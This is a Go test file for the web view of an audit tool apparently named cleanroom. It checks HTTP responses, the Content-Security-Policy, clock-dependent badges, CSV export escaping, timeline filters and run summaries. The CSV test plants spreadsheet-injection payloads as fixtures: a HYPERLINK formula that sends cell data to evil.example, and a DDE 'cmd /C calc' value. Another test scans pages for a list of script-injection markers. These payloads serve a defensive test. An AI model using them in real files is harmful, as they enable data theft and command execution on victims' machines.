package audit_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"cleanroom.dev/cleanroom/cleanroom/audit"
)

// TestWebView checks the web view's answers on a real state directory:
// what it serves, what it refuses, and that a failed audit after a
// verified one is shown as NOT VERIFIED while the verified facts stay.
// (cmd/cleanroom checks the rendered pages in headless Chromium.)
func TestWebView(t *testing.T) {
	w := getWorld(t)
	dir := t.TempDir()
	h := audit.Handler(dir, audit.ViewOptions{})
	get := func(method, url string) *httptest.ResponseRecorder {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(method, url, nil))
		return rec
	}
	if rec := get(http.MethodGet, "http://127.0.0.1:8080/"); rec.Code != 200 || !strings.Contains(rec.Body.String(), "NOTHING VERIFIED YET") {
		t.Fatalf("empty state: %d %s", rec.Code, rec.Body)
	}
	st := openState(t, dir)
	if _, err := audit.Run(context.Background(), w.config(nil), st); err != nil {
		t.Fatal(err)
	}
	cid := w.sc.Contract.ID().String()
	const html, jsonType, csvType = "text/html; charset=utf-8", "application/json", "text/csv; charset=utf-8"
	for _, tc := range []struct {
		method, url string
		code        int
		ctype       string
		want        string
	}{
		{http.MethodGet, "http://127.0.0.1:8080/", 200, html, "VERIFIED"},
		{http.MethodGet, "http://localhost:8080/contracts/" + cid, 200, html, "Participants and their signatures"},
		{http.MethodGet, "http://[::1]:8080/", 200, html, "VERIFIED"},
		{http.MethodHead, "http://127.0.0.1:8080/", 200, html, ""},
		{http.MethodGet, "http://127.0.0.1:8080/?format=json", 200, jsonType, `"format": "cleanroom/audit-export/v1"`},
		{http.MethodGet, "http://127.0.0.1:8080/?format=csv", 200, csvType, "id,name,expires_at,expired,"},
		{http.MethodGet, "http://127.0.0.1:8080/?format=html", 200, html, "VERIFIED"},
		{http.MethodHead, "http://127.0.0.1:8080/contracts/" + cid + "?format=csv", 200, csvType, ""},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?format=json&type=run.refused", 200, jsonType, `"type": "run.refused"`},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?format=csv&participant=measurer", 200, csvType, "algorithm.submitted"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?type=&participant=&from=&to=", 200, html, "Participants and their signatures"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + strings.Repeat("0", 64), 404, html, "There is no verified audit of contract 0000"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + strings.ToUpper(cid), 404, html, "There is no page /contracts/"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/../state.json", 404, html, "There is no page"},
		{http.MethodGet, "http://127.0.0.1:8080/state.json", 404, html, "There is no page /state.json in this view"},
		{http.MethodHead, "http://127.0.0.1:8080/nope", 404, html, ""},
		{http.MethodGet, "http://127.0.0.1:8080/?format=xml", 400, html, "format &#34;xml&#34; is not one this view exports"},
		{http.MethodGet, "http://127.0.0.1:8080/?type=run.started", 400, html, "unknown query parameter &#34;type&#34;: this page takes format"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?type=run.begun", 400, html, "type &#34;run.begun&#34; is not an event type"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?participant=mallory", 400, html, "participant &#34;mallory&#34; is not a participant of contract audit-test"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?from=yesterday", 400, html, "from &#34;yesterday&#34; is not a time: give YYYY-MM-DDTHH:MM"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?from=2030-01-02&to=2030-01-01", 400, html, "from &#34;2030-01-02&#34; is after to &#34;2030-01-01&#34;"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?type=run.started&type=run.finished", 400, html, "query parameter &#34;type&#34; is given 2 times"},
		{http.MethodGet, "http://127.0.0.1:8080/contracts/" + cid + "?sort=time", 400, html, "unknown query parameter &#34;sort&#34;"},
		{http.MethodPost, "http://127.0.0.1:8080/", 405, html, "this view is read-only"},
		{http.MethodGet, "http://evil.example:8080/", 403, html, "forbidden"},
	} {
		rec := get(tc.method, tc.url)
		if rec.Code != tc.code || rec.Header().Get("Content-Type") != tc.ctype || !strings.Contains(rec.Body.String(), tc.want) {
			t.Errorf("%s %s: %d %s %.300s", tc.method, tc.url, rec.Code, rec.Header().Get("Content-Type"), rec.Body)
		}
		if tc.method == http.MethodHead && rec.Body.Len() != 0 {
			t.Errorf("HEAD %s: a body", tc.url)
		}
		if csp := rec.Header().Get("Content-Security-Policy"); csp != audit.ContentSecurityPolicy || !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("%s %s: CSP %q", tc.method, tc.url, csp)
		}
		attach := rec.Header().Get("Content-Disposition")
		if export := tc.ctype != html; export != strings.HasPrefix(attach, "attachment; filename=\"cleanroom-audit-") {
			t.Errorf("%s %s: Content-Disposition %q", tc.method, tc.url, attach)
		}
	}
	// A failed audit after the verified one.
	bad := tamper(w.auditor.LogFetcher(), isPath("tile/entries/"), func(b []byte) ([]byte, error) {
		b[len(b)-3] ^= 1
		return b, nil
	})
	if _, err := audit.Run(context.Background(), w.config(bad), st); err == nil {
		t.Fatal("tampered log verified")
	}
	body := get(http.MethodGet, "http://127.0.0.1:8080/").Body.String()
	if !strings.Contains(body, "NOT VERIFIED: the last audit failed (bad-log)") || !strings.Contains(body, "tile/entries/") ||
		!strings.Contains(body, "The facts below are from the last audit that verified") {
		t.Errorf("index after a failed audit:\n%s", body)
	}
	var home audit.HomeExport
	if err := json.Unmarshal(get(http.MethodGet, "http://127.0.0.1:8080/?format=json").Body.Bytes(), &home); err != nil ||
		home.Status != audit.StatusNotVerified || home.LastFailure == nil || home.LastFailure.Kind != audit.FailLog {
		t.Errorf("JSON export after a failed audit: %+v, %v", home, err)
	}
	// Then a good one again: VERIFIED, with the earlier failure noted.
	if _, err := audit.Run(context.Background(), w.config(nil), st); err != nil {
		t.Fatal(err)
	}
	body = get(http.MethodGet, "http://127.0.0.1:8080/").Body.String()
	if strings.Contains(body, "NOT VERIFIED") || !strings.Contains(body, "An earlier audit failed") {
		t.Errorf("index after a good audit:\n%s", body)
	}
}

// TestWebViewStrictStyle checks that the pages hold no script, no style
// attribute and one style sheet, and that the Content-Security-Policy
// allows that sheet by its hash and nothing else.
func TestWebViewStrictStyle(t *testing.T) {
	dir := auditedState(t)
	cid := getWorld(t).sc.Contract.ID().String()
	for _, target := range []string{"/", "/contracts/" + cid, "/nope"} {
		rec := httptest.NewRecorder()
		audit.Handler(dir, audit.ViewOptions{}).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "http://127.0.0.1"+target, nil))
		body := rec.Body.String()
		sheets := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindAllStringSubmatch(body, -1)
		if len(sheets) != 1 {
			t.Fatalf("%s: %d style sheets", target, len(sheets))
		}
		sum := sha256.Sum256([]byte(sheets[0][1]))
		csp := rec.Header().Get("Content-Security-Policy")
		want := "default-src 'none'; style-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
		if csp != want {
			t.Errorf("%s: CSP %q, want %q", target, csp, want)
		}
		for _, bad := range []string{"<script", " style=", "javascript:", "unsafe-inline", " on"} {
			if bad == " on" {
				if m := regexp.MustCompile(`<[^>]+\son[a-z]+=`).FindString(body); m != "" {
					t.Errorf("%s: an event handler attribute: %s", target, m)
				}
				continue
			}
			if strings.Contains(body, bad) || strings.Contains(csp, bad) {
				t.Errorf("%s: the page holds %q", target, bad)
			}
		}
	}
}

// auditedState returns a state directory in which the world's log was
// audited.
func auditedState(t *testing.T) string {
	t.Helper()
	w := getWorld(t)
	dir := t.TempDir()
	if _, err := audit.Run(context.Background(), w.config(nil), openState(t, dir)); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestWebViewClock checks the view on an injected clock: the contract is
// EXPIRED from its expires_at on, and the audit is flagged as old past
// StaleAfter (24 h by default, never when negative).
func TestWebViewClock(t *testing.T) {
	dir := auditedState(t)
	facts, err := audit.ReadFacts(dir)
	if err != nil {
		t.Fatal(err)
	}
	cid := getWorld(t).sc.Contract.ID().String()
	rep := facts.Contracts[cid]
	verified, expires := rep.VerifiedAt, rep.Contract.ExpiresAt
	for _, tc := range []struct {
		name         string
		now          time.Time
		staleAfter   time.Duration
		expired, old bool
		ageS         string
	}{
		{"just audited", verified.Add(time.Minute), 0, false, false, ""},
		{"23 hours later", verified.Add(23 * time.Hour), 0, false, false, ""},
		{"25 hours later", verified.Add(25 * time.Hour), 0, false, true, "25 h 0 min"},
		{"2 hours later, stale after 1 h", verified.Add(2 * time.Hour), time.Hour, false, true, "2 h 0 min"},
		{"a year later, never stale", verified.Add(365 * 24 * time.Hour), -1, true, false, ""},
		{"a second before expiry", expires.Add(-time.Second), -1, false, false, ""},
		{"at expiry", expires, -1, true, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := audit.Handler(dir, audit.ViewOptions{Now: func() time.Time { return tc.now }, StaleAfter: tc.staleAfter})
			for _, target := range []string{"/", "/contracts/" + cid} {
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "http://127.0.0.1"+target, nil))
				body := rec.Body.String()
				if got := strings.Contains(body, `class="badge expired"`); got != tc.expired {
					t.Errorf("%s: EXPIRED badge %v, want %v", target, got, tc.expired)
				}
				if got := strings.Contains(body, `id="stale-warning"`); got != tc.old {
					t.Errorf("%s: old-audit warning %v, want %v", target, got, tc.old)
				}
				if tc.old && !strings.Contains(body, "OLD AUDIT: last verified "+tc.ageS+" ago") {
					t.Errorf("%s: the warning does not say the audit is %s old", target, tc.ageS)
				}
			}
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "http://127.0.0.1/?format=json", nil))
			var home audit.HomeExport
			if err := json.Unmarshal(rec.Body.Bytes(), &home); err != nil || len(home.Contracts) != 1 ||
				home.Stale != tc.old || home.Contracts[0].Stale != tc.old || home.Contracts[0].Expired != tc.expired || !home.ExportedAt.Equal(tc.now) {
				t.Errorf("JSON export: %+v, %v", home, err)
			}
		})
	}
}

// TestWebViewCSVFormulas puts values a spreadsheet would run as formulas
// into a state directory (a contract's name is any printable text; the
// other fields stand for whatever a hostile state file holds) and checks
// the CSV exports quote them, and only them.
func TestWebViewCSVFormulas(t *testing.T) {
	dir := auditedState(t)
	facts, err := audit.ReadFacts(dir)
	if err != nil {
		t.Fatal(err)
	}
	cid := getWorld(t).sc.Contract.ID().String()
	rep := facts.Contracts[cid]
	rep.Contract.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	rep.Timeline[1].Summary = "+1+cmd|' /C calc'!A0"
	rep.Timeline[2].Summary = "-2+3"
	rep.Timeline[3].Summary = "@SUM(1,1)"
	rep.Timeline[4].Summary = "\t=1"
	rep.Timeline[5].Summary = "\r=1"
	rep.Timeline[6].Summary = "a=b, at no cell's start"
	rep.Timeline[7].Summary = "'quoted"
	if err := audit.WriteJSON(filepath.Join(dir, audit.FactsFile), facts); err != nil {
		t.Fatal(err)
	}
	get := func(target string) [][]string {
		rec := httptest.NewRecorder()
		audit.Handler(dir, audit.ViewOptions{}).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "http://127.0.0.1"+target, nil))
		rows, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
		if rec.Code != 200 || err != nil {
			t.Fatalf("%s: %d, %v", target, rec.Code, err)
		}
		return rows
	}
	if rows := get("/?format=csv"); rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("the contract's name in the CSV export: %q", rows[1][1])
	}
	rows := get("/contracts/" + cid + "?format=csv")
	want := []string{"'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,1)", "'\t=1", "'\r=1", "a=b, at no cell's start", "''quoted"}
	for i, w := range want {
		if got := rows[i+2][7]; got != w {
			t.Errorf("summary of event %d in the CSV export: %q, want %q", i+1, got, w)
		}
	}
	for i, r := range rows[1:] {
		for _, cell := range append(r[:7:7], r[8]) {
			if strings.HasPrefix(cell, "'") {
				t.Errorf("row %d: a safe cell was quoted: %q", i, r)
			}
		}
	}
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain": "plain", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "'=1": "''=1", "'twas": "''twas", " =1": " =1", "2026-11-25T20:15:56Z": "2026-11-25T20:15:56Z",
	} {
		if got := audit.CSVSafe(in); got != want {
			t.Errorf("CSVSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestTimelineFilter checks the filter's fields on the world's report: an
// empty filter keeps every event, each field keeps what it names, time
// bounds are inclusive to the precision given, and bad values are refused.
func TestTimelineFilter(t *testing.T) {
	dir := auditedState(t)
	facts, err := audit.ReadFacts(dir)
	if err != nil {
		t.Fatal(err)
	}
	rep := facts.Contracts[getWorld(t).sc.Contract.ID().String()]
	tl := rep.Timeline[:11]
	run1 := tl[5].Time // the first run.started
	count := func(f audit.TimelineFilter) (n int, types []string) {
		for i := range tl {
			if f.Match(&tl[i]) {
				n++
				types = append(types, tl[i].Type)
			}
		}
		return n, types
	}
	sec := run1.Truncate(time.Second)
	for _, tc := range []struct {
		q    string
		want func(e *audit.TimelineEntry) bool
	}{
		{"", func(*audit.TimelineEntry) bool { return true }},
		{"type=run.refused", func(e *audit.TimelineEntry) bool { return e.Type == "run.refused" }},
		{"participant=advertiser", func(e *audit.TimelineEntry) bool { return e.Actor == "advertiser" }},
		{"participant=" + url.QueryEscape(audit.CoordinatorActor), func(e *audit.TimelineEntry) bool { return e.Actor == "" }},
		{"type=run.started&participant=measurer", func(*audit.TimelineEntry) bool { return false }},
		{"from=" + run1.Format(time.RFC3339Nano), func(e *audit.TimelineEntry) bool { return !e.Time.Before(run1) }},
		{"to=" + run1.Format(time.RFC3339Nano), func(e *audit.TimelineEntry) bool { return !e.Time.After(run1) }},
		{"from=" + sec.Format("2006-01-02T15:04:05") + "&to=" + sec.Format("2006-01-02T15:04:05"),
			func(e *audit.TimelineEntry) bool { return e.Time.Truncate(time.Second).Equal(sec) }},
		{"to=" + run1.Format("2006-01-02T15:04"), func(e *audit.TimelineEntry) bool {
			return !e.Time.After(run1.Truncate(time.Minute).Add(time.Minute - 1))
		}},
		{"from=" + run1.Format("2006-01-02"), func(e *audit.TimelineEntry) bool { return !e.Time.Before(run1.Truncate(24 * time.Hour)) }},
		{"from=2999-01-01", func(*audit.TimelineEntry) bool { return false }},
	} {
		q, _ := url.ParseQuery(tc.q)
		f, err := audit.ParseFilter(q, rep)
		if err != nil {
			t.Errorf("%s: %v", tc.q, err)
			continue
		}
		n, types := count(f)
		want := 0
		for i := range tl {
			if tc.want(&tl[i]) {
				want++
			}
		}
		if n != want || (tc.q == "" && n != len(tl)) {
			t.Errorf("%s: %d events %v, want %d", tc.q, n, types, want)
		}
	}
	for q, msg := range map[string]string{
		"type=RUN.STARTED":                          `type "RUN.STARTED" is not an event type`,
		"participant=Advertiser":                    `participant "Advertiser" is not a participant of contract audit-test`,
		"from=2026-13-01":                           `from "2026-13-01" is not a time`,
		"to=now":                                    `to "now" is not a time`,
		"from=2026-01-02T10:00&to=2026-01-02T09":    `to "2026-01-02T09" is not a time`,
		"from=2026-01-02T10:01&to=2026-01-02T10":    `to "2026-01-02T10" is not a time`,
		"from=2026-01-02T10:01&to=2026-01-02T10:00": `from "2026-01-02T10:01" is after to "2026-01-02T10:00"`,
	} {
		v, _ := url.ParseQuery(q)
		if _, err := audit.ParseFilter(v, rep); err == nil || !strings.Contains(err.Error(), msg) {
			t.Errorf("%s: %v, want %q", q, err, msg)
		}
	}
	// A bound to the minute is inclusive of the whole minute.
	v, _ := url.ParseQuery("from=2026-01-02T10:00&to=2026-01-02T10:00")
	if f, err := audit.ParseFilter(v, rep); err != nil || f.ToInput != "2026-01-02T10:00" ||
		!f.Match(&audit.TimelineEntry{Time: time.Date(2026, 1, 2, 10, 0, 59, 999, time.UTC)}) || f.Match(&audit.TimelineEntry{Time: time.Date(2026, 1, 2, 10, 1, 0, 0, time.UTC)}) {
		t.Errorf("a one-minute window: %+v, %v", f, err)
	}
}

// TestTimelineChart checks where the chart places events: in time order
// across the whole axis, a long gap cut short and labelled, one event in
// the middle.
func TestTimelineChart(t *testing.T) {
	t0 := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	ev := func(i uint64, d time.Duration, typ string) audit.TimelineEntry {
		return audit.TimelineEntry{Index: i, Time: t0.Add(d), Type: typ, OK: true}
	}
	c := audit.NewTimelineChart([]audit.TimelineEntry{
		ev(0, 0, "coordinator.started"), ev(1, time.Second, "contract.registered"), ev(2, 2*time.Second, "dataset.uploaded"),
		ev(3, 3*time.Second, "run.started"), ev(4, 3*time.Second, "run.refused"), ev(5, 26*time.Hour, "run.refused"),
	})
	xs := []int{}
	for _, m := range c.Marks {
		xs = append(xs, m.X)
	}
	if xs[0] != audit.ChartLeft || xs[5] != audit.ChartWidth-audit.ChartRight || xs[3] != xs[4] {
		t.Errorf("x: %v", xs)
	}
	for i := 1; i < len(xs); i++ {
		if xs[i] < xs[i-1] {
			t.Errorf("x out of time order: %v", xs)
		}
	}
	// Seconds apart before the cut stay apart: 3 s over the axis less the cut.
	if step := xs[1] - xs[0]; step < 250 {
		t.Errorf("events a second apart are %d px apart", step)
	}
	if len(c.Breaks) != 1 || c.Breaks[0].Label != "≈ 25 h 59 min" || xs[5]-xs[3] != audit.BreakWidth {
		t.Errorf("breaks %+v, x %v", c.Breaks, xs)
	}
	if c.Marks[4].Shape != "diamond" || c.Marks[3].Shape != "circle" || c.Marks[4].Y == c.Marks[3].Y {
		t.Errorf("marks %+v %+v: a refusal is a diamond, and two at one time do not cover each other", c.Marks[3], c.Marks[4])
	}
	// Evenly spread events over days: no cut, a linear axis.
	c = audit.NewTimelineChart([]audit.TimelineEntry{ev(0, 0, "run.started"), ev(1, 24*time.Hour, "run.started"), ev(2, 48*time.Hour, "run.started")})
	if len(c.Breaks) != 0 || c.Marks[1].X != (audit.ChartLeft+audit.ChartWidth-audit.ChartRight)/2 {
		t.Errorf("linear: breaks %+v, marks %+v", c.Breaks, c.Marks)
	}
	c = audit.NewTimelineChart([]audit.TimelineEntry{ev(7, 0, "result.fetched")})
	if len(c.Marks) != 1 || c.Marks[0].X != audit.ChartLeft+(audit.ChartWidth-audit.ChartRight-audit.ChartLeft)/2 || len(c.Ticks) != 1 {
		t.Errorf("one event: %+v", c)
	}
	if c := audit.NewTimelineChart(nil); len(c.Marks) != 0 || len(c.Lanes) != len(audit.ChartLanes) {
		t.Errorf("no event: %+v", c)
	}
	// Times from a hand-made state file: out of order, of no known type,
	// centuries apart (longer than a time.Duration holds).
	var odd []audit.TimelineEntry
	for i := range 5 {
		odd = append(odd, audit.TimelineEntry{Index: uint64(i), Time: t0.AddDate(100*(4-i), 0, 0), Type: "x"})
	}
	c = audit.NewTimelineChart(odd)
	for _, m := range c.Marks {
		if m.X < audit.ChartLeft || m.X > audit.ChartWidth-audit.ChartRight {
			t.Errorf("mark %d off the axis at x %d", m.Index, m.X)
		}
	}
}

// TestRunSummary checks the summary of runs of every status; runs with
// equal result commitments are not taken for identical results (the
// commitments' salts differ, so identical results never have equal ones).
func TestRunSummary(t *testing.T) {
	in := map[string]string{"a": "11", "b": "22"}
	r := &audit.Report{Contract: audit.ContractFacts{MaxRuns: 9, RunsStarted: 6, RefusedAtAdmission: 2}, Runs: []audit.RunFact{
		{RunID: "r1", Number: 1, Status: audit.RunFinished, Datasets: in, AlgorithmSHA256: "aa", RowsKept: 3, RowsSuppressed: 1, ResultCommitment: "x", Fetches: []audit.Fetch{{}, {}}},
		{RunID: "r2", Number: 2, Status: audit.RunRefused, Datasets: in, AlgorithmSHA256: "aa", Stage: "policy", Reason: "too many rows"},
		{RunID: "r3", Number: 3, Status: audit.RunFinished, Datasets: in, AlgorithmSHA256: "aa", RowsKept: 3, RowsSuppressed: 1, ResultCommitment: "x"},
		{RunID: "r4", Number: 4, Status: audit.RunFinished, Datasets: map[string]string{"a": "11", "b": "33"}, AlgorithmSHA256: "aa", RowsKept: 5, ResultCommitment: "y"},
		{RunID: "r5", Number: 5, Status: audit.RunAborted, Datasets: in, AlgorithmSHA256: "bb"},
		{RunID: "r6", Number: 6, Status: audit.RunRunning, Datasets: in, AlgorithmSHA256: "aa"},
	}, Timeline: []audit.TimelineEntry{
		{Index: 10, Type: "run.refused", Details: map[string]string{"stage": "admission", "reason": "max_runs"}},
		{Index: 12, Type: "run.refused", Details: map[string]string{"stage": "policy", "reason": "too many rows", "run_id": "r2"}},
		{Index: 14, Type: "run.refused", Details: map[string]string{"stage": "admission", "reason": "max_runs"}},
		{Index: 15, Type: "run.refused", Details: map[string]string{"stage": "query", "reason": "failed", "run_id": "r7", "sealed_reason_sha256": "ab"}},
		{Index: 16, Type: "run.refused", Details: map[string]string{"stage": "query", "reason": "failed", "run_id": "r8"}},
	}}
	s := audit.Summarize(r)
	got, _ := json.Marshal(s)
	want := `{"max_runs":9,"runs_started":6,"finished":3,"refused":1,"refused_at_admission":2,"aborted":1,"running":1,` +
		`"rows_released":11,"rows_suppressed":2,"fetches":2,` +
		`"refusals":[{"stage":"admission","reason":"max_runs","sealed":false,"count":2,"entries":[10,14],"runs":[]},` +
		`{"stage":"policy","reason":"too many rows","sealed":false,"count":1,"entries":[12],"runs":[2]},` +
		`{"stage":"query","reason":"failed","sealed":true,"count":1,"entries":[15],"runs":[]},{"stage":"query","reason":"failed","sealed":false,"count":1,"entries":[16],"runs":[]}],` +
		`"same_inputs":[{"digest":"algorithm=aa a=11 b=22","runs":[1,2,3,6]}]}`
	if string(got) != want {
		t.Errorf("summary:\n got %s\nwant %s", got, want)
	}
	v := audit.NewContractView(r, time.Time{})
	if v.SameInputsAs[6] != 1 || v.SameInputsAs[1] != 0 || v.SameInputsAs[4] != 0 {
		t.Errorf("same inputs %v", v.SameInputsAs)
	}
}
